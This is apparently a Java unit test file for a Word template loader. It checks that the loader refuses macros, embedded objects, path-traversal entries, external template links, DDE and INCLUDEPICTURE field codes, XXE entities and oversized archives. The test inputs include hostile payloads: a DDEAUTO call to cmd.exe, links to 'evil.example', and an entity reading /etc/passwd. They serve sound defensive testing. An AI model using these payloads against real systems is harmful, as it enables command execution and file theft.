package org.mingjing.app.papers;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.UnaryOperator;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.mingjing.problem.Problem;

class WordFileTest {
    private static final WordFile PLAIN = FormWriter.write("title 标题\nbody 正文{{matter.number}}", false);
    private static final List<String> PARTS = List.of(
            "[Content_Types].xml",
            "_rels/.rels",
            "word/_rels/document.xml.rels",
            "word/document.xml",
            "word/styles.xml",
            "word/settings.xml",
            "word/footer1.xml",
            "word/footer2.xml");

    private static Map<String, byte[]> parts() {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        PARTS.forEach(part -> parts.put(part, PLAIN.part(part)));
        return parts;
    }

    static byte[] zip(Map<String, byte[]> parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (Map.Entry<String, byte[]> part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue());
                zip.closeEntry();
            }
        } catch (IOException impossible) {
            throw new IllegalStateException(impossible);
        }
        return out.toByteArray();
    }

    private static byte[] with(String part, byte[] content) {
        Map<String, byte[]> parts = parts();
        parts.put(part, content);
        return zip(parts);
    }

    private static byte[] changed(String part, UnaryOperator<String> change) {
        return with(
                part,
                change.apply(new String(PLAIN.part(part), StandardCharsets.UTF_8))
                        .getBytes(StandardCharsets.UTF_8));
    }

    private static String refusal(byte[] bytes) {
        Problem problem = catchThrowableOfType(Problem.class, () -> WordFile.open(bytes));
        return problem == null ? "taken" : problem.code().name();
    }

    private static byte[] body(String content) {
        return changed("word/document.xml", xml -> xml.replace("<w:sectPr>", content + "<w:sectPr>"));
    }

    @Test
    void a_file_that_only_holds_text_is_taken() {
        assertThat(refusal(zip(parts()))).isEqualTo("taken");
    }

    @Test
    void macros_objects_and_what_is_not_known_are_refused() {
        for (String part : List.of(
                "word/vbaProject.bin",
                "word/embeddings/oleObject1.bin",
                "word/activeX/activeX1.xml",
                "word/embeddings/book.xlsx",
                "word/media/image1.emf",
                "word/../evil.xml",
                "/etc/passwd",
                "..\\evil.xml",
                "EncryptedPackage")) {
            assertThat(refusal(with(part, new byte[] {1}))).as(part).isEqualTo("TEMPLATE_UNSAFE");
        }
        assertThat(refusal(changed(
                        "[Content_Types].xml",
                        xml -> xml.replace(
                                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                                "application/vnd.ms-word.document.macroEnabled.main+xml"))))
                .isEqualTo("TEMPLATE_UNSAFE");
    }

    @Test
    void what_reaches_out_is_refused() {
        UnaryOperator<String> outside = xml -> xml.replace(
                "</Relationships>",
                "<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
                        + "attachedTemplate\" Target=\"http://evil.example/a.dotm\" TargetMode=\"External\"/>"
                        + "</Relationships>");
        assertThat(refusal(changed("word/_rels/document.xml.rels", outside))).isEqualTo("TEMPLATE_UNSAFE");
        assertThat(refusal(changed("_rels/.rels", xml -> outside.apply(xml).replace(" TargetMode=\"External\"", ""))))
                .isEqualTo("TEMPLATE_UNSAFE");
        for (String code : List.of(
                "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",
                "INCLUDEPICTURE http://evil.example/a.png",
                "FILLIN x")) {
            assertThat(refusal(body("<w:p><w:r><w:instrText>" + code + "</w:instrText></w:r></w:p>")))
                    .as(code)
                    .isEqualTo("TEMPLATE_UNSAFE");
            assertThat(refusal(body("<w:p><w:fldSimple w:instr=\"" + code + "\"/></w:p>")))
                    .as(code)
                    .isEqualTo("TEMPLATE_UNSAFE");
        }
        assertThat(refusal(body("<w:altChunk r:id=\"rId1\"/>"))).isEqualTo("TEMPLATE_UNSAFE");
    }

    @Test
    void entities_are_not_read() {
        assertThat(refusal(changed("word/document.xml", xml -> xml.replace(
                                "<w:document",
                                "<!DOCTYPE w:document [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><w:document")
                        .replace("正文", "&x;"))))
                .isEqualTo("TEMPLATE_UNREADABLE");
    }

    @Test
    void what_unpacks_to_more_than_a_paper_is_refused_before_it_is_unpacked() {
        assertThat(refusal(with("word/media/zero.png", new byte[60 << 20]))).isEqualTo("TEMPLATE_TOO_LARGE");
        assertThat(refusal(with("word/styles.xml", new byte[9 << 20]))).isEqualTo("TEMPLATE_TOO_LARGE");
        assertThat(refusal(body("<w:sdt><w:sdtContent>".repeat(200) + "</w:sdtContent></w:sdt>".repeat(200))))
                .isEqualTo("TEMPLATE_TOO_LARGE");
        Map<String, byte[]> many = parts();
        for (int i = 0; i < 400; i++) {
            many.put("customXml/item" + i + ".xml", "<a/>".getBytes(StandardCharsets.UTF_8));
        }
        assertThat(refusal(zip(many))).isEqualTo("TEMPLATE_TOO_LARGE");
    }

    @Test
    void what_is_no_word_file_is_told_so() {
        assertThat(refusal("%PDF-1.7".getBytes(StandardCharsets.UTF_8))).isEqualTo("TEMPLATE_UNREADABLE");
        assertThat(refusal(new byte[0])).isEqualTo("TEMPLATE_UNREADABLE");
        assertThat(refusal(changed("word/document.xml", xml -> "no xml"))).isEqualTo("TEMPLATE_UNREADABLE");
    }

    @Test
    void a_place_that_there_is_not_is_named_with_where_it_stands() {
        WordTemplate template = new WordTemplate(
                WordFile.open(body("<w:p><w:r><w:t>文号：{{pap</w:t></w:r><w:r><w:t>er.nummer}}</w:t></w:r></w:p>"
                        + "<w:p><w:r><w:t>{{?问题}} {{offen</w:t></w:r></w:p>")));

        Problem problem = catchThrowableOfType(Problem.class, () -> template.require(Set.of("matter.number")));

        assertThat(problem.code()).isEqualTo(PaperProblem.TEMPLATE_PLACEHOLDER_UNKNOWN);
        assertThat(problem.what())
                .contains("{{paper.nummer}}: document.xml, paragraph 3 «文号：{{paper.nummer}}»")
                .contains("a bracket without its other: document.xml, paragraph 4")
                .doesNotContain("matter.number");
    }

    @Test
    void what_would_print_otherwise_than_word_shows_it_is_refused() {
        WordTemplate template = new WordTemplate(WordFile.open(
                body("<w:p><w:ins><w:r><w:t>新</w:t></w:r></w:ins></w:p><w:p><w:r><w:pict/></w:r></w:p>")));

        Problem problem = catchThrowableOfType(Problem.class, () -> template.require(Set.of("matter.number")));

        assertThat(problem.code()).isEqualTo(PaperProblem.TEMPLATE_NOT_PRINTABLE);
        assertThat(problem.what()).contains("tracked change").contains("«新»").contains("drawing or text box");
    }

    @Test
    void a_place_is_filled_however_word_has_cut_it_and_what_is_filled_in_is_never_a_place() throws IOException {
        WordTemplate template =
                new WordTemplate(WordFile.open(body("<w:p><w:r><w:t>甲{{mat</w:t></w:r><w:r><w:rPr><w:b/>"
                        + "</w:rPr><w:t>ter.title}}乙{{matter.num</w:t></w:r><w:r><w:t>ber}}丙</w:t></w:r></w:p>")));

        String text = PrinterTest.text(PrinterTest.PRINTER.print(template.fill(new PaperText(
                Map.of("matter.title", "{{matter.number}}<b>&\u0000\ud800", "matter.number", "七"), Map.of()))));

        assertThat(text).contains("甲{ {matter.number} }<b>&乙七丙");
    }

    @Test
    void a_row_is_there_for_each_of_a_list_and_a_long_answer_in_its_own_paragraphs() throws IOException {
        WordFile filled = new WordTemplate(
                        FormWriter.write("|= 名*1 | 类*1 |\n| {{subject.name}} | {{subject.kind}} |\nbody {{?说}}", false))
                .fill(new PaperText(
                        Map.of("?说", "第一段\n第二段"),
                        Map.of(
                                "subject",
                                List.of(Map.of("name", "张三", "kind", "个人"), Map.of("name", "某公司", "kind", "企业")))));

        assertThat(PrinterTest.text(PrinterTest.PRINTER.print(filled)))
                .contains("张三")
                .contains("某公司")
                .containsPattern("第一段\\s*\\R\\s*第二段");
    }
}
